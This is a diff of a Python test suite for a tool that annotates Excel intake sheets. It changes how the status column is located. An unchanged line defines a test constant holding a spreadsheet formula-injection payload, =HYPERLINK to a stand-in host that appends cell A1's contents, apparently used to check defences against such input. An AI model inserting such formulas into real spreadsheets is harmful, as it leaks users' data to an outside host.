@@ -31,7 +31,8 @@ from entries.reports.annotate import write_annotated
 INTAKE = Path(__file__).resolve().parent / "fixtures" / "intake"
 HYPERLINK = '=HYPERLINK("http://x/?"&A1,"y")'
 RED, AMBER, GREEN = "FFC7CE", "FFEB9C", "C6EFCE"
-STATUS_COL = len(TEMPLATE_COLUMNS) + 1  # right of the template's 16 columns in the fixtures
+# Right of the 16 columns the fixtures have (the template's, before the optional Series column).
+STATUS_COL = TEMPLATE_COLUMNS.index("Series") + 1
 
 
 def _err(code: str, row: int | None, column: str | None, message: str = "msg", fix: str = "fix it") -> Issue:
@@ -252,7 +253,7 @@ def test_excel_error_cells_from_the_intake(tmp_path: Path):
     assert _fill(ws["C2"]) == RED and "CELL_01 (error)" in ws["C2"].comment.text
     assert _fill(ws["H3"]) == RED and "CELL_01 (error)" in ws["H3"].comment.text
     assert ws["C2"].value == "#REF!"
-    marked = {c.coordinate for r in ws.iter_rows(max_col=len(TEMPLATE_COLUMNS)) for c in r if _fill(c) or c.comment}
+    marked = {c.coordinate for r in ws.iter_rows(max_col=STATUS_COL - 1) for c in r if _fill(c) or c.comment}
     assert marked == {"C2", "H3"}
     # The file is rejected: the row without a problem is not "OK", its status stays empty.
     assert [_first_line(ws.cell(row=r, column=STATUS_COL)) for r in (2, 3, 4)] == [
@@ -854,7 +855,7 @@ def test_the_banner_does_not_move_any_row(tmp_path: Path, fixture: str):
     xlsx, _, sheet, intake = _write(INTAKE / fixture, tmp_path, extra=HAND_MADE)
     ws = _entries_sheet(openpyxl.load_workbook(xlsx), sheet)
     # Every red cell sits on the row its error names, and every row holds the values read from it.
-    red_rows = {c.row for r in ws.iter_rows(max_col=len(TEMPLATE_COLUMNS)) for c in r if _fill(c) == RED}
+    red_rows = {c.row for r in ws.iter_rows(max_col=STATUS_COL - 1) for c in r if _fill(c) == RED}
     error_rows = {i.row for i in [*intake.issues, *HAND_MADE] if i.severity == "error" and i.column in intake.positions}
     assert red_rows == error_rows
     for record in intake.rows.to_dict("records"):
